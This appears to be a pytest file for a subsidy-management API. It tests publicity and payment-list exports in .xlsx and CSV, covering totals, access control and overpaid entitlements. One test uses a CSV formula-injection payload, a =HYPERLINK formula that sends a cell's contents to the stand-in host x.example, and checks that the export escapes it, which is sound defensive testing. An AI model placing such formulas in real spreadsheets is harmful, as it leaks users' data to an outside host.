"""The 公示名单 and 资金拨付明细: approved entitlements of a year, as .xlsx and CSV, with 合计."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from tests.api.conftest import Park


def _approve_2025(park: Park) -> tuple[dict, dict]:
    platform = park.register("pilot_platform", name="阳泉中试平台")
    agency = park.register("tech_transfer_agency", name="阳泉技术转移中心")
    park.record(platform["id"], "equipment_purchased", {"year": 2025, "original_value": "12000000.00"},
                occurred_on="2025-12-01")
    park.record(agency["id"], "transfer_performance_assessed", {"year": 2025, "amount": "400000.10"},
                occurred_on="2026-01-15")
    for entity in (platform, agency):
        [owed] = park.client.get(f"/api/v1/entities/{entity['id']}/entitlements?year=2025",
                                 headers=park.admin).get_json()
        assert park.record(entity["id"], "entitlement_approved", {"entitlement_id": owed["id"]}).status_code == 201
        entity["entitlement_id"] = owed["id"]
    paid = park.record(agency["id"], "entitlement_disbursed", {
        "entitlement_id": agency["entitlement_id"], "amount": "100000.00", "paid_on": "2026-02-01"})
    assert paid.status_code == 201, paid.get_json()
    return platform, agency


def _sheet(park: Park, path: str) -> list[tuple]:
    response = park.client.get(path, headers=park.auditor)
    assert response.status_code == 200, response.data[:300]
    data = response.data
    response.close()  # the server's temporary file goes with it
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert sheet.freeze_panes == "A2"
    return [tuple(c.value for c in row) for row in sheet.iter_rows()], sheet


def _csv(park: Park, path: str) -> list[list[str]]:
    response = park.client.get(path, headers=park.admin)
    assert response.status_code == 200
    assert response.data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_the_publicity_list_shows_each_approved_entitlement_of_the_year_and_the_total(park: Park) -> None:
    platform, agency = _approve_2025(park)
    rows, sheet = _sheet(park, "/api/v1/exports/publicity.xlsx?year=2025")
    assert rows[0] == ("序号", "主体名称", "统一社会信用代码", "条款", "支持事项", "金额（元）")
    # 2.1: 30% of 12,000,000.00, capped at 1,000,000.00 a year; 4.1 as assessed.
    assert [r[:4] for r in rows[1:3]] == [(1, "阳泉中试平台", platform["credit_code"], "2.1"),
                                          (2, "阳泉技术转移中心", agency["credit_code"], "4.1")]
    assert all(isinstance(r[4], str) and r[4] for r in rows[1:3])
    assert [Decimal(repr(r[5])) for r in rows[1:3]] == [Decimal("1000000"), Decimal("400000.1")]
    assert rows[3][0] == "合计" and Decimal(repr(rows[3][5])).quantize(Decimal("0.01")) == Decimal("1400000.10")
    assert sheet["F2"].number_format == "#,##0.00"
    subsidies = park.client.get("/api/v1/subsidies?year=2025", headers=park.auditor).get_json()
    assert subsidies["total"] == "1400000.10"
    table = _csv(park, "/api/v1/exports/publicity.csv?year=2025")
    assert table[0][0] == "序号"
    assert [r[5] for r in table[1:]] == ["1000000.00", "400000.10", subsidies["total"]]


def test_the_payments_list_shows_what_is_left_to_pay_with_its_responsible_units(park: Park) -> None:
    _approve_2025(park)
    rows, _ = _sheet(park, "/api/v1/exports/payments.xlsx?year=2025")
    assert rows[0] == ("主体名称", "统一社会信用代码", "条款", "责任单位", "核定金额", "已拨付", "待拨付")
    agency = next(r for r in rows if r[2] == "4.1")
    assert "市科技局" in agency[3] and "市财政局" in agency[3]  # article 4's 责任单位, from the policy data
    assert [Decimal(repr(v)).quantize(Decimal("0.01")) for v in agency[4:]] == [
        Decimal("400000.10"), Decimal("100000.00"), Decimal("300000.10")]
    table = _csv(park, "/api/v1/exports/payments.csv?year=2025")
    assert table[-1][0] == "合计" and table[-1][4:] == ["1400000.10", "100000.00", "1300000.10"]


def test_a_year_with_nothing_approved_is_a_header_and_a_zero_total(park: Park) -> None:
    _approve_2025(park)
    table = _csv(park, "/api/v1/exports/publicity.csv?year=2024")
    assert table == [["序号", "主体名称", "统一社会信用代码", "条款", "支持事项", "金额（元）"],
                     ["合计", "", "", "", "", "0.00"]]


@pytest.mark.parametrize("path", ["publicity.xlsx", "payments.csv"])
def test_exports_need_a_year_and_a_staff_token(park: Park, path: str) -> None:
    url = f"/api/v1/exports/{path}"
    assert park.client.get(url, headers=park.admin).status_code == 422
    assert park.client.get(url + "?year=1999", headers=park.admin).status_code == 422
    assert park.client.get(url + "?year=2025").status_code == 401
    entity = park.register("enterprise")
    assert park.client.get(url + "?year=2025", headers=park.entity_token(entity["id"])).status_code == 403


def test_a_name_typed_as_a_formula_stays_text_when_the_csv_is_opened_in_a_spreadsheet(park: Park) -> None:
    # CWE-1236: Excel and WPS run a CSV cell beginning with = + - @ as a formula.
    formula = '=HYPERLINK("http://x.example/?"&C2,"点此")'
    platform = park.register("pilot_platform", name=formula)
    park.record(platform["id"], "equipment_purchased", {"year": 2025, "original_value": "12000000.00"},
                occurred_on="2025-12-01")
    [owed] = park.client.get(f"/api/v1/entities/{platform['id']}/entitlements?year=2025",
                             headers=park.admin).get_json()
    approved = park.record(platform["id"], "entitlement_approved", {"entitlement_id": owed["id"]})
    assert approved.status_code == 201, approved.get_json()
    table = _csv(park, "/api/v1/exports/publicity.csv?year=2025")
    assert table[1][1] == "'" + formula
    rows, _sheet_of = _sheet(park, "/api/v1/exports/publicity.xlsx?year=2025")
    assert rows[1][1] == formula  # a workbook's text cell is never a formula: kept as typed


def test_money_paid_beyond_support_received_elsewhere_stays_on_the_publicity_list(park: Park) -> None:
    """公示名单: "one row per entitlement approved (status approved or disbursed)" (contract),
    written before the second review brought `overpaid`: an approved entitlement paid beyond what
    support received elsewhere (不重复) left it owed. 2.1 approved and paid 1,000,000.00, then
    300,000.00 from another policy: overpaid, 700,000.00 owed here and in /subsidies, and the
    list had 0 rows and a 合计 of 0.00. It lists what this policy supports, 700,000.00; an
    approval revoked after payment (overpaid, owing 0.00) is not on it."""
    platform, agency = _approve_2025(park)
    eid = platform["entitlement_id"]
    assert park.record(platform["id"], "entitlement_disbursed", {
        "entitlement_id": eid, "amount": "1000000.00", "paid_on": "2026-02-01"}).status_code == 201
    assert park.record(platform["id"], "external_support_recorded", {
        "entitlement_id": eid, "policy": "省级中试平台设备补助", "amount": "300000.00"}).status_code == 201
    assert park.record(agency["id"], "entitlement_revoked", {
        "entitlement_id": agency["entitlement_id"], "reason": "材料不实"}).status_code == 201
    statuses = {e["id"]: (e["status"], e["amount"]) for entity in (platform, agency)
                for e in park.entitlements(entity["id"])}
    assert statuses[eid] == ("overpaid", "700000.00")
    assert statuses[agency["entitlement_id"]] == ("overpaid", "0.00")
    table = _csv(park, "/api/v1/exports/publicity.csv?year=2025")
    assert [r[1:4] + r[5:] for r in table[1:-1]] == [["阳泉中试平台", platform["credit_code"], "2.1", "700000.00"]]
    assert table[-1][0] == "合计" and table[-1][5] == "700000.00"
    assert park.client.get("/api/v1/subsidies?year=2025", headers=park.auditor).get_json()["total"] == "700000.00"
